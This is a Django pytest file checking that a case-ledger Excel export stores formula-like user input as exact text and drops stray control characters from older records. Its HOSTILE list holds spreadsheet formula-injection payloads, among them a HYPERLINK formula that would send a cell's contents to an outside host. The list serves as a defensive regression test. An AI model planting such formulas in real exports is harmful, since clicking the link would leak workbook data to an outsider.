"""The ledger export writes what people typed as text: no live formula, no broken workbook."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from lianxin.cases.models import Case
from lianxin.cases.tests.factories import make_case

HOSTILE = ['=HYPERLINK("http://e.cn/"&L2)', "+cmd", "-1+2", "@SUM(1)", "#N/A"]
TITLE, WORKER, RESULT = 2, 11, 16  # the export's columns


def export_rows(client) -> list[list]:
    response = client.get(reverse("cases:export"))
    assert response.status_code == 200
    return [list(r) for r in load_workbook(BytesIO(response.content)).active.iter_rows()][1:]


@pytest.mark.parametrize("text", HOSTILE)
def test_ledger_export_writes_formula_like_texts_as_exact_text(client, world, text):
    # given a case whose title, worker name and result were typed as formulas
    case = make_case(actor=world.chair, org=world.ent_a1, title=text, worker_name=text)
    Case.objects.filter(pk=case.pk).update(result=text)
    client.force_login(world.chair)
    # when the ledger is exported
    (row,) = export_rows(client)
    # then each of those cells is a string holding exactly what was typed
    assert [(row[i].data_type, row[i].value) for i in (TITLE, RESULT)] == [("s", text)] * 2
    assert row[WORKER].data_type == "s"
    assert row[WORKER].value.startswith(text)


def test_ledger_export_of_an_old_case_with_control_characters_answers_a_valid_workbook(
    client, world
):
    # given a case stored before inputs stripped control characters
    case = make_case(actor=world.chair, org=world.ent_a1, title="加班费")
    Case.objects.filter(pk=case.pk).update(title="加班\x01费\x1b", result="已\x02解决\n下一行")
    client.force_login(world.chair)
    # when the ledger is exported / then it answers a workbook without them
    (row,) = export_rows(client)
    assert row[TITLE].value == "加班费"
    assert row[RESULT].value == "已解决\n下一行"
